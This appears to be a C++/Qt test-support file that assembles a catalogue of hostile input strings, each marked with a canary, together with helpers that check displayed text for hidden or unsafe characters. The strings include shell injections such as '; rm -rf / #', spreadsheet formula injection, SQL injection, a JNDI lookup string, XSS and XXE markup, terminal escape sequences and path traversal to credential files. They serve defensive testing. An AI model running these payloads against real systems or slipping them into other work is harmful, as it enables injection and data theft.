// SPDX-License-Identifier: GPL-3.0-or-later
#include "tests/support/hostiletexts.h"

#include <QStringList>

#include <algorithm>

namespace vigil::test {

namespace {

using namespace Qt::StringLiterals;

/// Where it must stand inside a text; otherwise it is put at the end.
constexpr QChar canaryPlace{0x00a4};

struct Group
{
    Hostile kind;
    QStringList texts;
};

QString times(int count, const QString &text)
{
    return text.repeated(count);
}

QString utf16(std::initializer_list<char16_t> units)
{
    QString text;
    for (const char16_t unit : units)
        text += QChar(unit);
    return text;
}

QList<Group> rendered()
{
    return {
        {Hostile::Markup,
         {
             u"<b>bold ¤</b>"_s,
             u"<h1>¤</h1><hr>"_s,
             u"<img src=\"file:///etc/passwd\" alt=\"¤\">"_s,
             u"<img src=x onerror=alert(1)>"_s,
             u"<img src=\"http://192.0.2.1/¤.png\" width=9999 height=9999>"_s,
             u"<img src=\"data:image/svg+xml;base64,PHN2Zy8+\">"_s,
             u"<img src=\":/icons/flag.svg\">"_s,
             u"<script>alert('¤')</script>"_s,
             u"<svg onload=alert(1)>¤</svg>"_s,
             u"<iframe src=\"javascript:alert(1)\">"_s,
             u"<style>* { color: red }</style>"_s,
             u"<a href=\"https://example.org/¤\">click</a>"_s,
             u"<a href='file:///bin/sh'>open</a>"_s,
             u"<table width=\"100000\"><tr><td>¤</td></tr></table>"_s,
             u"<p align=right dir=rtl>¤</p>"_s,
             u"<br/><br/><br/>"_s,
             u"<font size=+7 color=#000000>¤</font>"_s,
             u"<span style=\"font-size:900pt\">¤</span>"_s,
             u"<!-- ¤"_s,
             u"<!DOCTYPE html><html><body>¤"_s,
             u"<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>"_s,
             u"<qt>¤</qt>"_s,
             u"</span></p></body>"_s,
             u"<![CDATA[¤]]>"_s,
             u"**bold** [¤](https://example.org) ![x](file:///etc/passwd)"_s,
             u"<u>¤"_s,
             u"<ul><li>¤"_s,
             u"<object data=\"file:///etc/passwd\"></object>"_s,
         }},
        {Hostile::Style,
         {
             u"* { background: url(/etc/passwd) }"_s,
             u"QLabel { color: red; } /* ¤ */"_s,
             u"}\"; QWidget { qproperty-text: \"¤"_s,
             u"QPushButton#x { image: url(file:///dev/zero); }"_s,
         }},
        {Hostile::Entity,
         {
             u"&lt;b&gt;¤&lt;/b&gt;"_s,
             u"&amp;lt;img src=x&amp;gt;"_s,
             u"&#60;b&#62;¤"_s,
             u"&#x202e;gpj.exe"_s,
             u"&nbsp;&nbsp;&nbsp;"_s,
             u"&zwnj;&shy;&rlm;"_s,
             u"&notanentity;"_s,
         }},
    };
}

QList<Group> opened()
{
    return {
        {Hostile::Link,
         {
             u"https://example.org/¤?a=1&b=2#c"_s,
             u"http://192.0.2.1/"_s,
             u"javascript:alert('¤')"_s,
             u"data:text/html,<h1>¤</h1>"_s,
             u"file:///etc/passwd?"_s,
             u"smb://192.0.2.1/share/"_s,
             u"\\\\192.0.2.1\\share\\"_s,
             u"mailto:somebody@example.org?subject="_s,
             u"tel:+15550100;ext="_s,
             u"ssh://-oProxyCommand=touch%20¤/"_s,
             u"vbscript:msgbox(\"¤\")"_s,
             u"intent://¤#Intent;scheme=x;end"_s,
             u"www.example.org/"_s,
             u"https://example.org@192.0.2.1/"_s,
             u"https://xn--80ak6aa92e.com/"_s,
             u"https://\u0430\u0440\u0440\u04CF\u0435.com/"_s,
         }},
        {Hostile::Path,
         {
             u"/etc/passwd"_s,
             u"/dev/zero"_s,
             u"../../../../../../etc/shadow"_s,
             u"..\\..\\windows\\win.ini"_s,
             u"~/.ssh/id_ed25519"_s,
             u"/proc/self/environ"_s,
             u":/policies/general.json"_s,
             u"qrc:/icons/flag.svg"_s,
             u"C:\\Windows\\System32\\cmd.exe"_s,
             u"CON"_s,
             u"-rf"_s,
             u"--store=/tmp/"_s,
             u"@/etc/passwd"_s,
             u"photo.jpg.exe"_s,
         }},
    };
}

QList<Group> turned()
{
    return {
        {Hostile::Bidi,
         {
             u"photo\u202Egpj.exe"_s,
             u"\u202Eflipped ¤"_s,
             u"\u202Dforced ¤\u202C"_s,
             u"\u202Aembedded ¤"_s,
             u"\u202Bembedded ¤"_s,
             u"\u202C\u202C\u202C closed"_s,
             u"\u2066isolated ¤"_s,
             u"\u2067isolated ¤"_s,
             u"\u2068isolated ¤"_s,
             u"\u2069\u202E escaped the isolate ¤"_s,
             u"\u2069\u2069\u2069 left three of them"_s,
             u"\u200Fmark"_s,
             u"\u200Emark"_s,
             u"\u061Cmark"_s,
             u"1 \u05D0 2 \u05D1 3"_s,
             u"\u0645\u0631\u062D\u0628\u0627 ¤ (100) \u0645\u0631\u062D\u0628\u0627"_s,
             u"\u05E9\u05DC\u05D5\u05DD <b>¤</b>"_s,
             times(125, u"\u202B"_s),
             times(200, u"\u2067"_s),
             u"\u202Ekcabllor\u202C then \u202Eagain"_s,
             u"/* \u202E } \u2066if (isAdmin)\u2069 \u2066 begin admins only */"_s,
             u"100\u20AC\u200F\u0660\u0661"_s,
         }},
        {Hostile::Control,
         {
             utf16({0x00}) + u"after the end"_s,
             u"a\u0001b\u0002c"_s,
             u"bell\u0007bell\u0007"_s,
             u"back\u0008\u0008\u0008\u0008space"_s,
             u"tab\tulated\t"_s,
             u"\u000Bvertical\u000Cpage"_s,
             u"shift\u000E\u000Fin"_s,
             u"dle\u0010xon\u0011xoff\u0013"_s,
             u"end\u0003of\u0004text"_s,
             u"cancel\u0018\u001A"_s,
             u"\u001C\u001D\u001E\u001F"_s,
             u"delete\u007F"_s,
             u"\u0080\u0081\u0099 ¤"_s,
             u"\u00A0\u00A0nbsp"_s,
         }},
        {Hostile::Terminal,
         {
             u"\u001B[31mred ¤\u001B[0m"_s,
             u"\u001B[2J\u001B[H"_s,
             u"\u001B]0;title ¤\u0007"_s,
             u"\u001B]8;;https://example.org\u001B\\¤\u001B]8;;\u001B\\"_s,
             u"\u001B]52;c;cm0gLXJmIC8=\u0007"_s,
             u"\u001BP$q\"p\u001B\\"_s,
             u"\u001B[6n"_s,
             u"\u001B[?1049h"_s,
             u"\u001Bc"_s,
             u"\u001B(0lqqk"_s,
             u"\u009B31m"_s,
             u"\u009D0;title\u009C"_s,
             u"\u0090q\u009C"_s,
             u"\u001B[1000D\u001B[Kvigilctl: all is well"_s,
             u"\u001B[20h\u001B[5i"_s,
             u"\u001B_Ga=T,f=100;\u001B\\"_s,
         }},
        {Hostile::LineEnd,
         {
             u"title\nvigilctl: It is done. (forged) ¤"_s,
             u"title\r\nvigilctl: forged ¤"_s,
             u"title\rvigilctl: forged ¤"_s,
             u"title\u2028vigilctl: forged ¤"_s,
             u"title\u2029vigilctl: forged ¤"_s,
             u"title\u0085vigilctl: forged ¤"_s,
             u"title\n2022-03-10T12:00:00.000Z I store.opened ¤"_s,
             times(100, u"\n"_s),
             u"\nRemoved ¤"_s,
         }},
    };
}

QList<Group> drawn()
{
    return {
        {Hostile::Marks,
         {
             u"a"_s + times(10'000, u"\u0301"_s),
             times(30, u"Z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309"_s),
             times(60, u"\u0489"_s),
             u"o"_s + times(200, u"\u20DD"_s),
             u"\u0628"_s + times(300, u"\u064B\u200D"_s),
             u"\u0E01"_s + times(200, u"\u0E49"_s),
             u"\u0915"_s + times(200, u"\u093F"_s),
             u"x"_s + times(500, u"\U0001D167"_s),
             times(50, u"\u0F72\u0F7C"_s),
             u"\u0301\u0301 begins with marks"_s,
             u"e\u200D\u0301\u200D\u0301\u200D\u0301\u200D\u0301\u200D\u0301\u200D\u0301"_s,
             times(200, u"\u1100"_s),
         }},
        {Hostile::Invisible,
         {
             u"b\u200Bo\u200Bm\u200Bb"_s,
             u"b\u200Co\u200Cm\u200Cb"_s,
             u"b\u200Do\u200Dm\u200Db"_s,
             u"so\u00ADft"_s,
             u"\u2060word\u2060joiner"_s,
             u"\u2061\u2062\u2063\u2064 math"_s,
             u"\u2065 unassigned"_s,
             u"\u206A\u206B\u206C\u206D\u206E\u206F"_s,
             u"\uFEFFmark\uFEFF"_s,
             u"\u034F\u034Fgrapheme\u034F"_s,
             u"\u115F\u1160 hangul"_s,
             u"\u3164\u3164 filler"_s,
             u"\uFFA0\uFFA0 half filler"_s,
             u"khmer \u17B4\u17B5"_s,
             u"mongolian \u180B\u180C\u180D\u180E\u180F"_s,
             u"\u2800\u2800\u2800\u2800 blank"_s,
             u"object \uFFFC"_s,
             u"\uFFF9base\uFFFAnote\uFFFB"_s,
             u"a\uFE00b\uFE01c\uFE0E\uFE0F\uFE0F"_s,
             u"note \U0001D173\U0001D174\U0001D17A"_s,
             u"a\U000E0100\U000E01EF"_s,
             u"\u6F22\U000E0100\U000E0101\U000E0102"_s,
             u"\U0001F600\U000E0158\U000E0155\U000E015C"_s,
             u"\U000E0069\U000E0067\U000E006E\U000E006F\U000E0072\U000E0065 tags"_s,
             u"\U0001F3F4\U000E0068\U000E0069\U000E0064\U000E0065\U000E007F"_s,
             u"\U000E0001 language tag"_s,
             u"\U000E0FFF kept for more"_s,
             u"shorthand \U0001BCA0\U0001BCA3"_s,
             u"egyptian \U00013430\U00013438"_s,
             u"\u2000\u2003\u200A\u202F\u205F\u3000\u1680 spaces"_s,
             u"\u0645\u06CC\u200C\u200C\u200C\u200C"_s,
             times(400, u"\u200B"_s),
         }},
        {Hostile::Confusable,
         {
             u"p\u0430ypal_"_s,
             u"\u0440\u0430\u0443\u0440\u0430l_"_s,
             u"\u0391dmin_"_s,
             u"m\u03BFder\u03B1tor_"_s,
             u"\uFF56\uFF49\uFF47\uFF49\uFF4C_"_s,
             u"\U0001D42F\U0001D422\U0001D420\U0001D422\U0001D425_"_s,
             u"\u24E5\u24D8\u24D6\u24D8\u24DB_"_s,
             u"vigi\u01C0_"_s,
             u"0fficial_l1I|"_s,
             u"\u13D9\u13A5\u13C0\u13A5\u13DE_"_s,
             u"system\u02D0 "_s,
             u"\u26A0 verified \u2714"_s,
             u"\u27E8U+202E\u27E9"_s,
             u"u\u0308ber / \u00FCber "_s,
             u"\uC11C\uC6B8\u30CB\u30E5\u30FC\u30B9"_s,
             u"\u0261oogle\u2024com"_s,
         }},
        {Hostile::NoCharacter,
         {
             utf16({0xd800}),
             utf16({0xdc00}),
             utf16({'a', 0xd83d, 'b'}),
             utf16({0xde00, 0xd83d}),
             utf16({0xd800, 0xd800, 0xdc00}),
             utf16({0xfffe}),
             utf16({0xffff}),
             utf16({0xfdd0, 0xfdef}),
             utf16({0xd83f, 0xdffe}),
             utf16({0xdbff, 0xdfff}),
             u"\uFFFD\uFFFD replaced"_s,
             u"\uE000\uF8FF private"_s,
             u"\U000F0000\U0010FFFD private"_s,
             u"\u0378\U0001FAFF\U000323B0 nobody's yet"_s,
             times(300, utf16({0xd800})),
         }},
    };
}

QList<Group> computed()
{
    return {
        {Hostile::Formula,
         {
             u"=1+1"_s,
             u"=cmd|' /C calc'!A0"_s,
             u"=HYPERLINK(\"https://example.org/?x=\"&A1,\"¤\")"_s,
             u"+1+cmd|' /C calc'!A0"_s,
             u"-1+1"_s,
             u"@SUM(1+1)"_s,
             u"\t=1+1"_s,
             u"\r=1+1"_s,
             u"\n=1+1"_s,
             u"\uFF1D1+1"_s,
             u"\uFF0B1"_s,
             u"\uFF0D1"_s,
             u"\uFF20SUM(1)"_s,
             u"\";=1+1;\""_s,
             u"a,\"b\"\"c\",d"_s,
             u"%=1"_s,
             u" =1+1"_s,
         }},
        {Hostile::Query,
         {
             u"'; DROP TABLE subject; --"_s,
             u"\" OR \"\"=\""_s,
             u"' OR 1=1 --"_s,
             u"?1 ?2 :name @name $name"_s,
             u"NEAR(a b, 5) AND title:*"_s,
             u"\"unclosed"_s,
             u"a* OR b*"_s,
             u"%_%"_s,
             u"attach database '/tmp/¤' as x"_s,
         }},
        {Hostile::Shell,
         {
             u"$(touch /tmp/¤)"_s,
             u"`touch /tmp/¤`"_s,
             u"; rm -rf / #"_s,
             u"| sh"_s,
             u"&& reboot"_s,
             u"> /etc/passwd"_s,
             u"${HOME}${IFS}$PATH"_s,
             u"!!"_s,
             u"* ? [a-z] {a,b}"_s,
             u"'\"'\"'"_s,
             u"%COMSPEC%"_s,
         }},
        {Hostile::Format,
         {
             u"%1 %2 %3 %4 %5 %6 %7 %8 %9"_s,
             u"%n %Ln %L1 %99"_s,
             u"%s%s%s%n%x"_s,
             u"%%1 %%"_s,
             u"{0} {} {name}"_s,
             u"${jndi:ldap://192.0.2.1/¤}"_s,
             u"{{7*7}} <%= 7*7 %> #{7*7}"_s,
             u"%-99999999d"_s,
             u"%1%"_s,
         }},
        {Hostile::Accelerator,
         {
             u"&File"_s,
             u"&&"_s,
             u"&"_s,
             u"a & b &c &d"_s,
             u"Save\tCtrl+S"_s,
             u"(&X)"_s,
         }},
        {Hostile::Json,
         {
             u"\"}"_s,
             u"\\"_s,
             u"\\u0000"_s,
             u"\",\"id\":\"forged\",\"x\":\""_s,
             u"]}}\n{\"id\":\"v-0\"}"_s,
             u"</script>"_s,
             u"null"_s,
             u"1e999"_s,
             u"\\ud800"_s,
         }},
        {Hostile::Long,
         {
             times(100'000, u"a"_s),
             times(20'000, u"word "_s),
             times(30'000, u"\u6F22"_s),
             times(20'000, u"\U0001F600"_s),
             times(4'000, u"\uFDFD"_s),
             times(10'000, u"<b>"_s),
             times(5'000, u"&"_s),
             times(3'000, u"\u0E01"_s),
             times(5'000, u" "_s),
         }},
    };
}

QList<HostileText> made()
{
    QList<HostileText> all;
    for (const auto &groups : {rendered(), opened(), turned(), drawn(), computed()}) {
        for (const auto &[kind, texts] : groups) {
            for (QString text : texts) {
                const QString canary = canaryOf(all.size());
                if (text.contains(canaryPlace))
                    text.replace(canaryPlace, canary);
                else
                    text += canary;
                all.append({kind, text});
            }
        }
    }
    return all;
}

/// What no text of ours holds either, whatever stands around it.
bool isForbidden(char16_t c)
{
    return c < 0x20 || (c >= 0x7f && c <= 0x9f) || c == 0x2028 || c == 0x2029
           || (c >= 0x202a && c <= 0x202e) || c == 0x061c || c == 0x00ad || c == 0x200b
           || c == 0x200e || (c >= 0x2060 && c <= 0x2065) || (c >= 0x206a && c <= 0x206f)
           || c == 0x115f || c == 0x1160 || c == 0x17b4 || c == 0x17b5 || c == 0x3164 || c == 0xfeff
           || c == 0xffa0 || (c >= 0xfff9 && c <= 0xfffc) || (c >= 0xe000 && c <= 0xf8ff)
           || (c >= 0xfdd0 && c <= 0xfdef) || c >= 0xfffe;
}

} // namespace

const QList<HostileText> &hostileTexts()
{
    static const QList<HostileText> all = made();
    return all;
}

QString canaryOf(qsizetype index)
{
    return u"vq%1x"_s.arg(index, 3, 10, QLatin1Char('0'));
}

QString anyCanary()
{
    return u"vq[0-9]{3}x"_s;
}

QByteArray jsonString(QStringView text)
{
    QByteArray json = "\"";
    for (const QChar c : text) {
        if (c.unicode() >= 0x20 && c.unicode() < 0x7f && c != u'"' && c != u'\\')
            json += static_cast<char>(c.unicode());
        else
            json += "\\u" + QByteArray::number(c.unicode(), 16).rightJustified(4, '0');
    }
    return json + '"';
}

QString hiddenIn(QStringView text)
{
    for (qsizetype at = 0; at < text.size(); ++at) {
        const QChar c = text[at];
        const bool isPair =
            c.isSurrogate()
            && (c.isHighSurrogate() ? at + 1 < text.size() && text[at + 1].isLowSurrogate()
                                    : at > 0 && text[at - 1].isHighSurrogate());
        if (isForbidden(c.unicode()) || (c.isSurrogate() && !isPair))
            return u"U+%1 at %2"_s.arg(c.unicode(), 4, 16, QLatin1Char('0')).arg(at);
    }
    return {};
}

QString unsafeIn(QStringView shown, qsizetype longest)
{
    if (longest > 0 && shown.size() > longest)
        return u"%1 units long"_s.arg(shown.size());
    if (const QString hidden = hiddenIn(shown); !hidden.isEmpty())
        return hidden;
    int depth = 0;
    int marks = 0;
    for (qsizetype at = 0; at < shown.size(); ++at) {
        const char16_t c = shown[at].unicode();
        if (c >= 0x2066 && c <= 0x2068)
            ++depth;
        else if (c == 0x2069 && --depth < 0)
            return u"closes an isolate that is not its own at %1"_s.arg(at);
        if (shown[at].category() == QChar::Mark_NonSpacing && c != 0xfe0f)
            ++marks;
        else if (c != 0x200d && c != 0x200c)
            marks = 0;
        if (marks > 4)
            return u"a tower of marks at %1"_s.arg(at);
    }
    return depth == 0 ? QString() : u"leaves an isolate open"_s;
}

} // namespace vigil::test
